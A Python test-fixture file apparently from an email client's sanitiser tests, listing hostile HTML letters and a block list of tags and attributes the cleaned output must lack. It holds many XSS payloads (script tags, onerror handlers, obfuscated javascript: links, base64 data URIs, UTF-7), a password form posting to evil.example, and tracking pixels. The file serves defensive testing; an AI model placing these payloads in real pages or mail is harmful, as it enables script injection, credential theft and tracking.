# ruff: noqa: E501 -- one letter a line is read more easily than the same over eight
"""Letters that try to run something, to call home, or to look like a page of ours."""

from regulars.channels.email.tests.building.letters import Case, coded, file_part, html, mixed, part, plain

RUNS = ("<script", "onerror", "onclick", "onload", "javascript:", "vbscript:", "<iframe", "<object", "<embed",
        "<form", "<input", "<button", "<meta", "<base", "<link", "<style", "<svg", "expression(", "@import", "srcdoc",
        "http-equiv", "formaction", "<video", "<audio", "xlink:href", "url(")  # fmt: skip
SEEN = "Hello there"


def attack(name: str, code: str, *, first: str = SEEN, **more: int) -> Case:
    return Case(f"hostile-{name}", html(f"<p>{SEEN}</p>{code}"), first=first, lacks=RUNS, **more)  # type: ignore[arg-type]


ATTACKS = [
    attack("script", "<script>alert(1)</script>"),
    attack("script-with-a-source", "<script src=//evil.example/x.js></script>"),
    attack("script-never-closed", "<script>alert(1)"),
    attack("script-in-capitals-with-a-slash", "<SCRIPT/x>alert(1)</SCRIPT>"),
    attack("script-in-a-comment", "<!--[if mso]><script>alert(1)</script><![endif]-->"),
    attack("script-cut-in-two", "<scr<script>ipt>alert(1)</scr</script>ipt>", first="Hello there"),
    attack("picture-that-fails", "<img src=x onerror=alert(1)>"),
    attack("handlers", "<div onclick=alert(1) onmouseover='alert(2)'>text</div><body onload=alert(3)>"),
    attack("handler-after-a-slash", "<img/src/onerror=alert(1)>"),
    attack("handler-with-a-nul", "<img src=x one\x00rror=alert(1)>"),
    attack("link-runs", "<a href=\"javascript:alert(1)\">press</a>"),
    attack("link-runs-with-a-tab", "<a href='java\tscript:alert(1)'>press</a>"),
    attack("link-runs-in-entities", "<a href='&#106;avascript&colon;alert(1)'>press</a>"),
    attack("link-runs-after-control-signs", "<a href='\x01javascript:alert(1)'>press</a>"),
    attack("link-is-data", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>press</a>"),
    attack("link-is-vbscript", "<a href='vbscript:msgbox(1)'>press</a>"),
    attack("svg-with-a-program", "<svg onload=alert(1)><script>alert(2)</script></svg>"),
    attack("svg-with-a-link", "<svg><a xlink:href='javascript:alert(1)'><text>press</text></a></svg>"),
    attack("svg-as-a-picture", "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>"),
    attack("math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
    attack("noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"),
    attack("template", "<template><script>alert(1)</script></template>"),
    attack("style-sheet", "<style>body{background:url(//evil.example)} @import '//evil.example/x.css';</style>"),
    attack("style-reaches-out", "<div style=\"background-image:url('https://evil.example/x.png')\">x</div>"),
    attack("style-reaches-out-escaped", "<div style='background:\\75rl(//evil.example)'>x</div>"),
    attack("style-runs", "<div style='width:expression(alert(1))'>x</div>"),
    attack("style-covers-the-page", "<div style='position:fixed;top:0;left:0;z-index:999'>Sign in again</div>"),
    attack("style-binding", "<div style=\"-moz-binding:url('//evil.example/x.xml#a')\">x</div>"),
    attack("page-turns-away", "<meta http-equiv=refresh content='0;url=https://evil.example'>"),
    attack("base-moves-links", "<base href='https://evil.example/'><a href='/x'>x</a>"),
    attack("frame", "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    attack("object", "<object data='x.swf'><embed src='x.swf'></object>"),
    attack("form-asks-for-a-password", "<form action='https://evil.example'><input name=password><button formaction=x>Sign in</button></form>"),
    attack("sheet-from-afar", "<link rel=stylesheet href='https://evil.example/x.css'>"),
    attack("video", "<video src=x onerror=alert(1)><audio src=y onloadstart=alert(1)></video>"),
    attack("spy-picture", "<img src='https://spy.example/open.gif?who=support' width=1 height=1>", far_pictures=1),
    attack("spy-picture-without-a-scheme", "<img src='//spy.example/open.gif'>", far_pictures=1),
    attack("spy-picture-set", "<img srcset='https://spy.example/a.gif 1x' alt=''>"),
    attack("spy-background", "<table background='https://spy.example/a.gif'><tr><td>x</td></tr></table>"),
    attack("our-own-mark-forged", "<img data-far='http://127.0.0.1/admin' data-inside='x' alt=''>"),
    attack("attributes-broken-open", "<img alt='\"><script>alert(1)</script>' src='//spy.example/a.gif'>", first=SEEN, far_pictures=1),
]  # fmt: skip

OTHERS = [
    Case("hostile-utf-7-script", coded("<p>Hello there</p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "utf-7", codec="ascii", kind="html"), first=SEEN, lacks=RUNS),
    Case("hostile-text-part", plain("<script>alert(1)</script>"), first="<script>alert(1)</script>"),
    Case("hostile-subject", plain(SEEN, subject="<script>alert(1)</script>"), subject="<script>alert(1)</script>"),
    Case("hostile-name", plain(SEEN, sender='"<img src=x onerror=alert(1)>" <olena@forest.example>'), sender_name="<img src=x onerror=alert(1)>"),
    Case("hostile-file-is-a-page", mixed(part(SEEN), file_part("a.html", "text/html", b"<script>alert(1)</script>")), first=SEEN, files=("a.html",)),
    Case("hostile-file-is-a-picture-with-a-program", mixed(part(SEEN), file_part("a.svg", "image/svg+xml", b"<svg onload=alert(1)>")), first=SEEN, files=("a.svg",)),
    Case("hostile-file-name", mixed(part(SEEN), file_part("<img src=x onerror=alert(1)>.pdf", "application/pdf", b"x")), first=SEEN, files=("img src=x onerror=alert(1)_.pdf",)),
    Case("hostile-depth", html(f"<p>{SEEN}</p>" + "<div>" * 5000), holds=(SEEN,), lacks=RUNS),
]  # fmt: skip

CASES = [*ATTACKS, *OTHERS]
